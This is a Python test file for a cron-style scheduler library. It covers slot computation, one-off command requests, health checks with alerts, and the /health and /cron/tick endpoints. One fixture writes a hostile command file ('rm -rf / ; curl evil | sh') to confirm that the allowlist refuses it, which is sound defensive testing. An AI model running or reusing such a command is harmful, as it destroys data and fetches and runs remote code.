"""Scheduler, one-off runs, health with alerts, /health and /cron/tick."""
from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections import namedtuple
from datetime import datetime, timedelta

import pytest
from sqlalchemy import event, func, select

from cronbox.cron.cli import main
from cronbox.cron.scheduling import health, once, schedule
from cronbox.cron.scheduling.models import AlertState, OnceRequest, ScheduleRun
from cronbox.cron.scheduling.schedule import Scheduler, run_task
from cronbox.outbox.engine.registry import DEFAULT, Registry
from cronbox.cron.scheduling.tick import run_tick
from cronbox import outbox
import cronbox
from cronbox.outbox.core import clock
from cronbox.outbox.core.errors import RegistrationError
from cronbox.outbox.core.settings import load_settings
from cronbox.outbox.engine.budget import Budget
from cronbox.outbox.events.consumers import consumer
from cronbox.outbox.queue.models import Job
from tests.conftest import APP_ROOT, ONE_MYSQL_MODE, child_env
from tests.helpers import deliveries, invoke
from tests.registries import copy_of

pytestmark = pytest.mark.backends(*ONE_MYSQL_MODE)  # the claim mode changes nothing these tests check

T0 = datetime(2026, 11, 30, 12, 2, 30)


def budget():
    return Budget(max_time=30, memory_mb=None)


# ---- scheduler ------------------------------------------------------------------------

def test_slots_every_and_cron_in_a_timezone():
    reg = Registry()
    every5 = schedule.every(minutes=5, name="e", registry=reg)(lambda ctx: None)
    daily = schedule.cron("30 3 * * *", tz="Asia/Tehran", name="c", registry=reg)(lambda ctx: None)
    e, c = reg.tasks.get("e"), reg.tasks.get("c")
    assert e.slot(T0) == datetime(2026, 11, 30, 12, 0) and e.next_after(T0) == datetime(2026, 11, 30, 12, 5)
    assert e.slot(datetime(2026, 11, 30, 12, 5)) == datetime(2026, 11, 30, 12, 5)
    # 03:30 in Tehran (UTC+03:30) is 00:00 UTC.
    assert c.slot(T0) == datetime(2026, 11, 30, 0, 0) and c.next_after(T0) == datetime(2026, 12, 1, 0, 0)
    assert every5.task_name == "e" and daily.task_name == "c"
    assert e.describe() == "every 5m" and c.describe() == "cron 30 3 * * * (Asia/Tehran)"


@pytest.mark.parametrize("make", [
    lambda: schedule.cron("61 * * * *", registry=Registry()),
    lambda: schedule.cron("* * * *", registry=Registry()),
    lambda: schedule.cron("0 3 * * *", tz="Mars/Olympus", registry=Registry()),
    lambda: schedule.every(minutes=0, registry=Registry()),
    lambda: schedule.every(registry=Registry()),
    lambda: schedule.every(minutes=5, name="has spaces", registry=Registry()),
])
def test_bad_schedules_are_refused_when_registered(make):
    with pytest.raises(RegistrationError):
        make()(lambda ctx: None)


def test_a_slot_runs_once_coarse_cron_runs_once_and_failures_do_not_stop_others(runtime):
    reg = runtime.registry
    ran = []
    schedule.every(minutes=5, name="good", registry=reg)(lambda ctx: ran.append(("good", ctx.slot)))

    @schedule.every(minutes=5, name="bad", registry=reg)
    def bad(ctx):
        ran.append(("bad", ctx.slot))
        raise RuntimeError("remote API down")

    with clock.frozen(T0):
        first, second = Scheduler(runtime), Scheduler(runtime)  # two overlapping ticks
        assert first.run(budget()) == 2 and second.run(budget()) == 0 and first.run(budget()) == 0
        clock.advance(3600)  # an hour without ticks (or cron every 15 min): one run each, not twelve
        assert second.run(budget()) == 2
    # "bad" fails first (tasks run in name order) and "good" still runs, in both slots.
    assert ran == [("bad", datetime(2026, 11, 30, 12, 0)), ("good", datetime(2026, 11, 30, 12, 0)),
                   ("bad", datetime(2026, 11, 30, 13, 0)), ("good", datetime(2026, 11, 30, 13, 0))]
    with runtime.sessions() as session:
        rows = session.scalars(select(ScheduleRun).order_by(ScheduleRun.id)).all()
    assert [(r.task, r.status) for r in rows] == [("bad", "error"), ("good", "ok")] * 2
    assert all("RuntimeError: remote API down" in r.error for r in rows if r.task == "bad")


def test_a_fresh_scheduler_runs_only_the_slots_no_run_has_taken(runtime):
    """Every tick is a fresh process: a task whose current slot another run took (another tick,
    another server) is not run again, and that run's row is left as it was."""
    reg = runtime.registry
    ran = []
    for name, minutes in (("elsewhere", 5), ("free", 5), ("hourly", 60)):
        schedule.every(minutes=minutes, name=name, registry=reg)(lambda ctx, name=name: ran.append(name))

    def taken_elsewhere(slot):  # another tick (another server) ran "elsewhere" in this slot
        with runtime.sessions.begin() as session:
            session.add(ScheduleRun(task="elsewhere", slot=slot, status="ok", started_at=slot, host="other", pid=1))

    with clock.frozen(T0):
        taken_elsewhere(datetime(2026, 11, 30, 12, 0))
        assert Scheduler(runtime).run(budget()) == 2
        assert Scheduler(runtime).run(budget()) == 0  # the next tick: every slot taken, none run
        clock.advance(5 * 60)  # the 5-minute tasks' next slot; "hourly" keeps its own
        taken_elsewhere(datetime(2026, 11, 30, 12, 5))
        assert Scheduler(runtime).run(budget()) == 1
    assert ran == ["free", "hourly", "free"]
    with runtime.sessions() as session:
        rows = session.scalars(select(ScheduleRun).order_by(ScheduleRun.slot, ScheduleRun.task)).all()
    assert [(r.task, r.slot.minute, r.status, r.host == "other") for r in rows] == [
        ("elsewhere", 0, "ok", True), ("free", 0, "ok", False), ("hourly", 0, "ok", False),
        ("elsewhere", 5, "ok", True), ("free", 5, "ok", False)]


def test_task_session_commits_with_success_only(runtime):
    reg = runtime.registry

    @schedule.every(minutes=1, name="writer", registry=reg)
    def writer(ctx):
        cronbox.record(ctx.session, "task.ran", {"slot": ctx.slot.isoformat()})
        if ctx.slot.minute % 2:
            raise RuntimeError("odd minute")

    with clock.frozen(datetime(2026, 11, 30, 12, 0, 5)):
        run_task(runtime, reg.tasks.get("writer"), reg.tasks.get("writer").slot(clock.utcnow()))
        clock.advance(60)
        run_task(runtime, reg.tasks.get("writer"), reg.tasks.get("writer").slot(clock.utcnow()))
    from tests.helpers import count_events
    assert count_events(runtime) == 1


def test_schedule_list_and_run_commands(runtime, env):
    result = invoke(env, "schedule", "list")
    assert result.exit_code == 0 and "cronbox.health" in result.output and "every 5m" in result.output
    result = invoke(env, "schedule", "run", "cronbox.prune")
    assert result.exit_code == 0 and "schedule run cronbox.prune: ok" in result.output
    result = invoke(env, "schedule", "run", "nope")
    assert result.exit_code == 2 and "no task named 'nope'" in result.output
    assert "cronbox.prune" in invoke(env, "schedule", "list").output


def test_two_processes_racing_for_one_slot_run_it_once(runtime, env, tmp_path):
    ready, go, out = tmp_path / "ready", tmp_path / "go", tmp_path / "runs.txt"
    ready.mkdir()
    environ = child_env({**env, "TEST_TASK_FILE": str(out)})
    procs = [subprocess.Popen([sys.executable, "-m", "tests.barrier_schedule", str(ready), str(go),
                               "2026-11-30T12:00:00"], env=environ, cwd=str(APP_ROOT), stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for _ in range(3)]
    deadline = time.monotonic() + 60
    while len(list(ready.iterdir())) < 3 and time.monotonic() < deadline:
        time.sleep(0.01)
    go.write_text("go")
    results = sorted(p.communicate(timeout=60)[0].strip() for p in procs)
    assert results == ["None", "None", "ok"], [p.stderr for p in procs]
    assert len(out.read_text().split()) == 1


# ---- one-off runs ---------------------------------------------------------------------

def write_cmd(folder, name: str, content: bytes, *, age: float = 60):
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(content)
    stamp = time.time() - age
    os.utime(path, (stamp, stamp))
    return path


def requests(runtime) -> list[OnceRequest]:
    with runtime.sessions() as session:
        return list(session.scalars(select(OnceRequest).order_by(OnceRequest.id)))


def test_run_once_files_allowed_refused_garbage_and_young(runtime, registry, settings):
    inbox = settings.instance / "run-once"
    write_cmd(inbox, "a-migrate.cmd", b"# upgrade after deploy\npython -m cronbox migrate\n")
    write_cmd(inbox, "b-evil.cmd", b"rm -rf / ; curl evil | sh\n")
    write_cmd(inbox, "c-garbage.cmd", b"\xff\xfe\x00binary")
    write_cmd(inbox, "d-quote.cmd", b"queue retry 'unterminated\n")
    # Written "now" as far as the tick can tell, however long a loaded machine takes to get there
    # (younger than FILE_MIN_AGE, 10 s, when the tick looks): its time stamp is ahead of the clock.
    write_cmd(inbox, "e-young.cmd", b"queue status\n", age=-600)
    seen = []
    consumer("t", name="t", registry=registry)(lambda event, ctx: seen.append(event.id))
    with runtime.sessions.begin() as session:
        cronbox.record(session, "t", {})
    report = run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
    assert report.exit_code == 0 and seen  # the tick went on with its other work
    rows = requests(runtime)
    by_source = {r.source: r for r in rows}
    assert by_source["file:a-migrate.cmd"].status == "done" and by_source["file:a-migrate.cmd"].exit_code == 0
    assert "migrate: already at" in by_source["file:a-migrate.cmd"].output
    assert by_source["file:b-evil.cmd"].status == "refused" and "not allowed" in by_source["file:b-evil.cmd"].reason
    assert by_source["file:c-garbage.cmd"].status == "refused" and "not UTF-8" in by_source["file:c-garbage.cmd"].reason
    assert by_source["file:d-quote.cmd"].status == "refused" and "cannot parse" in by_source["file:d-quote.cmd"].reason
    assert "file:e-young.cmd" not in by_source and (inbox / "e-young.cmd").exists()
    archived = sorted(p.name for p in (inbox / "archive").iterdir())
    for original in ("a-migrate.cmd", "b-evil.cmd", "c-garbage.cmd", "d-quote.cmd"):
        assert sum(name.endswith(f"-{original}") for name in archived) == 1
    assert len(archived) == 4
    run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
    assert len(requests(runtime)) == 4  # nothing runs twice


def test_once_commands(runtime, env):
    added = invoke(env, "once", "add", "queue", "retry", "--all")
    assert added.exit_code == 0 and "request 1 pending" in added.output
    refused = invoke(env, "once", "add", "demo")
    assert refused.exit_code == 2 and "'demo' is not allowed" in refused.output
    ran = invoke(env, "once", "run")
    assert ran.exit_code == 0 and "1 requests run" in ran.output
    listed = invoke(env, "once", "list")
    assert "queue retry --all" in listed.output and "done" in listed.output
    shown = invoke(env, "once", "show", "1")
    assert "exit code 0" in shown.output and "retry: 0 jobs queued again" in shown.output
    assert invoke(env, "once", "show", "99").exit_code == 1
    assert invoke(env, "once", "run").output.startswith("once: 0 files collected, 0 requests run")


def test_the_read_only_queue_views_run_as_one_off_commands(runtime, env):
    """A user without SSH sees groups, profiles and pools through a one-off run's output."""
    for view in ("groups", "profiles", "pools"):
        assert once.allowed(["queue", view]) is None
        added = invoke(env, "once", "add", "queue", view)
        assert added.exit_code == 0, added.output
    ran = invoke(env, "once", "run")
    assert ran.exit_code == 0 and "3 requests run" in ran.output, ran.output
    rows = requests(runtime)
    assert [(r.status, r.exit_code) for r in rows] == [("done", 0)] * 3, [(r.argv, r.output) for r in rows]


def test_a_forbidden_request_written_to_the_table_by_hand_is_refused_when_run(runtime):
    with runtime.sessions.begin() as session:
        session.add(OnceRequest(argv=json.dumps(["demo", "--count", "5"]), source="sql", status="pending",
                                requested_at=clock.utcnow()))
    assert once.run_pending(runtime, main) == 1
    [row] = requests(runtime)
    assert row.status == "refused" and row.exit_code == 2


# ---- health ---------------------------------------------------------------------------

def statuses(report) -> dict[str, str]:
    return {c.name: c.status for c in report.checks}


def test_health_checks_ok_warn_fail(runtime, registry, settings, monkeypatch):
    with clock.frozen(T0):
        assert statuses(health.run_checks(runtime))["tick"] == "fail"  # no tick yet
        run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
        report = health.run_checks(runtime)
        assert statuses(report)["tick"] == "ok" and statuses(report)["database"] == "ok"
        clock.advance(200)
        assert statuses(health.run_checks(runtime))["tick"] == "warn"
        clock.advance(200)
        assert statuses(health.run_checks(runtime))["tick"] == "fail"

        @consumer("e", name="dead-end", max_attempts=1, registry=registry)
        def dead_end(event, ctx):
            raise RuntimeError("no")

        with runtime.sessions.begin() as session:
            cronbox.record(session, "e", {}, key="k")
            cronbox.record(session, "e", {}, key="k")
        from tests.helpers import relay
        relay(runtime)
        report = health.run_checks(runtime)
        assert statuses(report)["outbox.dead"] == "warn" and statuses(report)["outbox.blocked"] == "warn"
        clock.advance(3 * 3600)
        assert statuses(health.run_checks(runtime))["outbox.backlog"] == "fail"  # the held delivery waits

    Usage = namedtuple("Usage", "total used free")
    monkeypatch.setattr(health.shutil, "disk_usage", lambda path: Usage(100 * 2**30, 99.9 * 2**30, 0.1 * 2**30))
    assert statuses(health.run_checks(runtime))["disk"] == "fail"
    settings.instance.chmod(0o755)
    assert statuses(health.run_checks(runtime))["instance"] == "fail"
    settings.instance.chmod(0o700)
    keys = settings.private_dir("keys")
    (keys / "master-1.key").write_bytes(b"k")
    (keys / "master-1.key").chmod(0o644)
    assert statuses(health.run_checks(runtime))["key.master-1.key"] == "fail"
    (keys / "master-1.key").chmod(0o600)
    assert statuses(health.run_checks(runtime))["key.master-1.key"] == "ok"


def test_health_thresholds_follow_the_cron_interval(env, runtime):
    from cronbox.outbox.engine.runtime import Runtime

    coarse = Runtime(load_settings(environ={**env, "CRONBOX_CRON_INTERVAL": "15"}), registry=runtime.registry)
    try:
        with clock.frozen(T0):
            run_tick(coarse, run_command=main, max_time=30, linger=False, memory_mb=4096)
            clock.advance(14 * 60)
            assert statuses(health.run_checks(coarse))["tick"] == "ok"
            clock.advance(20 * 60)
            assert statuses(health.run_checks(coarse))["tick"] == "warn"
    finally:
        coarse.dispose()


def graded_as_its_ping(check: dict) -> bool:
    """Whether the database check's grade is the one its ping's time (rounded to 0.1 ms) earns: ok up
    to 250 ms, warn up to 2,000, fail beyond (health's thresholds)."""
    low, high = {"ok": (0, 250), "warn": (250, 2000), "fail": (2000, float("inf"))}[check["status"]]
    return low - 0.05 <= check["value"] <= high + 0.05


def test_health_command_json_and_exit_codes(runtime, env):
    result = invoke(env, "health", "--json")
    body = json.loads(result.output)
    assert result.exit_code == 1 and body["status"] == "fail"  # no tick has run
    assert {"name", "status", "detail", "value"} <= set(body["checks"][0])
    run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)  # room on a loaded machine
    # After a tick every check is ok but the database's ping, which grades this machine's speed: a
    # command's fresh connection on a loaded machine can take over 250 ms, a true warn (exit 0).
    result = invoke(env, "health", "--json")
    body = json.loads(result.output)
    checks = {c["name"]: c for c in body["checks"]}
    ping = checks.pop("database")
    assert graded_as_its_ping(ping) and {c["status"] for c in checks.values()} == {"ok"}
    assert body["status"] == ping["status"] and result.exit_code == (1 if ping["status"] == "fail" else 0)
    result = invoke(env, "health")
    *rows, summary = result.output.strip().splitlines()
    graded = {row.split()[0]: row.split()[1] for row in rows[1:]}  # under the header: check, status, detail
    assert set(graded) == set(checks) | {"database"}
    assert {status for name, status in graded.items() if name != "database"} == {"ok"}
    assert summary == f"health: {graded['database']}" and result.exit_code == (1 if graded["database"] == "fail" else 0)


def test_alerts_at_most_hourly_and_a_recovery_notice_over_real_smtp(env, runtime):
    from cronbox.outbox.channels import send_email  # noqa: F401
    from cronbox.outbox.engine.runtime import Runtime
    from cronbox.outbox.queue.worker import Worker
    from tests.db.test_channels import Mailbox, free_port
    from aiosmtpd.controller import Controller

    mailbox = Mailbox()
    controller = Controller(mailbox, hostname="127.0.0.1", port=free_port())
    controller.start()
    rt = Runtime(load_settings(environ={**env, "CRONBOX_ADMIN_EMAIL": "ops@example.com",
                                        "CRONBOX_SMTP_HOST": "127.0.0.1", "CRONBOX_SMTP_PORT": str(controller.port),
                                        "CRONBOX_SMTP_SECURITY": "none", "CRONBOX_MAIL_FROM": "cronbox@example.com"}),
                 registry=copy_of(DEFAULT))
    try:
        failing = health.Report("fail", T0, [health.Check("tick", "fail", "last tick 900s ago")])
        assert health.alert_on(rt, failing) == ["fail:tick"]
        later = health.Report("fail", T0 + timedelta(minutes=30), failing.checks)
        assert health.alert_on(rt, later) == []  # same problem within the hour: quiet
        hour = health.Report("fail", T0 + timedelta(minutes=61), failing.checks)
        assert health.alert_on(rt, hour) == ["fail:tick"]
        ok = health.Report("ok", T0 + timedelta(minutes=70), [health.Check("tick", "ok", "last tick 20s ago")])
        assert health.alert_on(rt, ok) == ["ok:tick"]
        assert health.alert_on(rt, ok) == []
        Worker(rt, ["mail"]).run(budget())
        subjects = sorted(line for m in mailbox.messages for line in m.splitlines() if line.startswith("Subject:"))
        assert subjects == ["Subject: [cronbox] health check tick failing"] * 2 + [
            "Subject: [cronbox] health check tick recovered"]
        with rt.sessions() as session:
            state = session.get(AlertState, "tick")
        assert state.failing is False
    finally:
        controller.stop()
        rt.dispose()


# ---- web ------------------------------------------------------------------------------

@pytest.fixture
def client_for(env, runtime):
    from app import create_app
    from tests.console_helpers import registry_with_consumers_of

    def make(**extra):
        app = create_app(load_settings(environ={**env, **extra}))
        app.extensions["cronbox"].runtime.registry = registry_with_consumers_of(runtime)
        return app.test_client()

    return make


def test_health_endpoint_public_status_token_detail_and_503(client_for, runtime):
    client = client_for(CRONBOX_HEALTH_TOKEN="s3cret-health")
    response = client.get("/health")
    assert response.status_code == 503 and response.json == {"status": "fail"}  # no tick yet
    assert response.headers["Cache-Control"] == "no-store"
    for header in ("Bearer wrong", "Basic s3cret-health", "s3cret-health", "Bearer "):
        assert client.get("/health", headers={"Authorization": header}).json == {"status": "fail"}
    assert client.get("/health?token=s3cret-health").json == {"status": "fail"}  # never from the URL
    full = client.get("/health", headers={"Authorization": "Bearer s3cret-health"}).json
    assert full["status"] == "fail" and any(c["name"] == "tick" for c in full["checks"])
    run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)  # room on a loaded machine: an ok tick
    assert client.get("/health").status_code == 200
    assert client_for().get("/health", headers={"Authorization": "Bearer "}).json == {"status": "ok"}


def _jobs(runtime, count: int, *, status: str = "ready") -> None:
    from sqlalchemy import insert

    now = clock.utcnow()
    with runtime.sessions.begin() as session:
        session.execute(insert(Job), [{"queue": "bulk", "handler": "bulk.job", "payload": "{}", "status": status,
                                       "attempts": 0, "available_at": now, "trace_id": f"{n:032x}",
                                       "created_at": now} for n in range(count)])


def test_anonymous_health_is_cheap_whatever_the_backlog_and_still_fails_at_once(client_for, runtime):
    """Anonymous GET /health used to count the whole backlog on every call (232 ms at 60k rows)."""
    from sqlalchemy import delete

    from cronbox.outbox.engine.models import Heartbeat

    client = client_for(CRONBOX_HEALTH_TOKEN="s3cret-health")
    engine = client.application.extensions["cronbox"].runtime.engine
    statements: list[str] = []

    def sent(conn, cursor, statement, *args):
        statements.append(statement)

    def calls(n: int) -> tuple[list[int], list[str]]:
        statements.clear()
        codes = [client.get("/health").status_code for _ in range(n)]
        return codes, [s for s in statements if "cronbox_jobs" in s or "cronbox_deliveries" in s]

    with clock.frozen(T0):
        run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
        event.listen(engine, "before_cursor_execute", sent)
        try:
            codes, counting = calls(1)
            assert codes == [200] and counting  # the first call counts the backlog once
            per_call = len(statements)
            _jobs(runtime, 10)
            codes, counting = calls(20)
            few = len(statements)
            assert codes == [200] * 20 and counting == [] and few < 20 * per_call
            _jobs(runtime, 3000)
            codes, counting = calls(20)
            assert codes == [200] * 20 and counting == [] and len(statements) == few  # not with the rows
            _jobs(runtime, 1, status="failed")
            assert client.get("/health").json == {"status": "ok"}  # the counts' grade is kept a while
            clock.advance(31)
            assert calls(5)[1] and calls(5)[1] == []  # counted again once, then kept
            assert client.get("/health").json == {"status": "warn"}  # the failed job, counted again
            # The token holder's report still counts everything, every call.
            statements.clear()
            full = client.get("/health", headers={"Authorization": "Bearer s3cret-health"}).json
            assert any(c["name"] == "queue.bulk.failed" for c in full["checks"])
            assert any("cronbox_jobs" in s for s in statements)
            # A tick gone is a failure at once, not when the kept grade runs out.
            with runtime.sessions.begin() as session:
                session.execute(delete(Heartbeat))
            response = client.get("/health")
            assert response.status_code == 503 and response.json == {"status": "fail"}
        finally:
            event.remove(engine, "before_cursor_execute", sent)


def test_anonymous_health_fails_at_once_when_the_database_goes_down(client_for, runtime):
    from sqlalchemy.exc import OperationalError

    client = client_for()
    engine = client.application.extensions["cronbox"].runtime.engine

    def down(conn, cursor, statement, *args):
        raise OperationalError(statement, None, Exception("(2003) Can't connect to MySQL server"))

    with clock.frozen(T0):
        run_tick(runtime, run_command=main, max_time=30, linger=False, memory_mb=4096)
        assert client.get("/health").json == {"status": "ok"}  # and the backlog's grade is kept
        event.listen(engine, "before_cursor_execute", down)
        try:
            response = client.get("/health")
            assert response.status_code == 503 and response.json == {"status": "fail"}
        finally:
            event.remove(engine, "before_cursor_execute", down)
        assert client.get("/health").json == {"status": "ok"}


def test_web_cron_token_rate_limit_and_no_overlap(client_for, runtime, registry):
    seen = []
    consumer("w", name="w", registry=registry)(lambda event, ctx: seen.append(event.id))
    assert client_for().post("/cron/tick").status_code == 404  # no token configured: no endpoint
    client = client_for(CRONBOX_CRON_TOKEN="tick-token", CRONBOX_WEB_TICK_INTERVAL="60")
    assert client.post("/cron/tick").status_code == 403
    assert client.post("/cron/tick", headers={"Authorization": "Bearer nope"}).status_code == 403
    assert client.get("/cron/tick", headers={"Authorization": "Bearer tick-token"}).status_code == 405
    with runtime.sessions.begin() as session:
        cronbox.record(session, "w", {})
    ok = client.post("/cron/tick", headers={"Authorization": "Bearer tick-token"})
    assert ok.status_code == 200 and ok.json["delivered"] == 1 and ok.json["skipped"] is False and seen
    too_soon = client.post("/cron/tick", headers={"Authorization": "Bearer tick-token"})
    assert too_soon.status_code == 429 and 50 < float(too_soon.headers["Retry-After"]) <= 61
    lock = runtime.lock("tick")
    assert lock.acquire()
    try:
        busy = client_for(CRONBOX_CRON_TOKEN="tick-token", CRONBOX_WEB_TICK_INTERVAL="1")
        time.sleep(1.1)
        answer = busy.post("/cron/tick", headers={"Authorization": "Bearer tick-token"})
        assert answer.status_code == 200 and answer.json == {"skipped": True, "reason": "tick already running"}
    finally:
        lock.release()


def test_requests_left_running_by_a_dead_process_are_marked_failed(runtime):
    with runtime.sessions.begin() as session:
        session.add(OnceRequest(argv=json.dumps(["migrate"]), source="cli", status="running",
                                requested_at=clock.utcnow(), started_at=clock.utcnow()))
    assert once.run_locked(runtime, main) == (0, 0)
    [row] = requests(runtime)
    assert row.status == "failed" and "interrupted" in row.reason


def test_a_busy_once_lock_skips_the_stage_and_the_command(runtime, env, settings):
    write_cmd(settings.instance / "run-once", "a.cmd", b"queue status\n")
    lock = runtime.lock("once")
    assert lock.acquire()
    try:
        assert once.run_locked(runtime, main) is None
        assert invoke(env, "once", "run").output.startswith("skipped: once run already running")
        assert (settings.instance / "run-once" / "a.cmd").exists()
    finally:
        lock.release()
    assert once.run_locked(runtime, main) == (1, 1)


def test_health_queue_checks_age_and_failures(runtime):
    from cronbox.outbox.queue.jobs import job

    registry = Registry()

    @job("sms", name="h.sms", tries=1, registry=registry)
    def sms(payload, ctx):
        raise RuntimeError("no")

    with clock.frozen(T0):
        with runtime.sessions.begin() as session:
            sms.dispatch(session, {})
        report = statuses(health.run_checks(runtime))
        assert report["queue.sms"] == "ok" and report["queue.sms.failed"] == "ok"
        clock.advance(3 * 3600)
        assert statuses(health.run_checks(runtime))["queue.sms"] == "fail"  # waiting three hours
        runtime.registry = registry
        from cronbox.outbox.queue.worker import Worker
        Worker(runtime, ["sms"]).run(budget())
        report = statuses(health.run_checks(runtime))
    assert report["queue.sms"] == "ok" and report["queue.sms.failed"] == "warn"
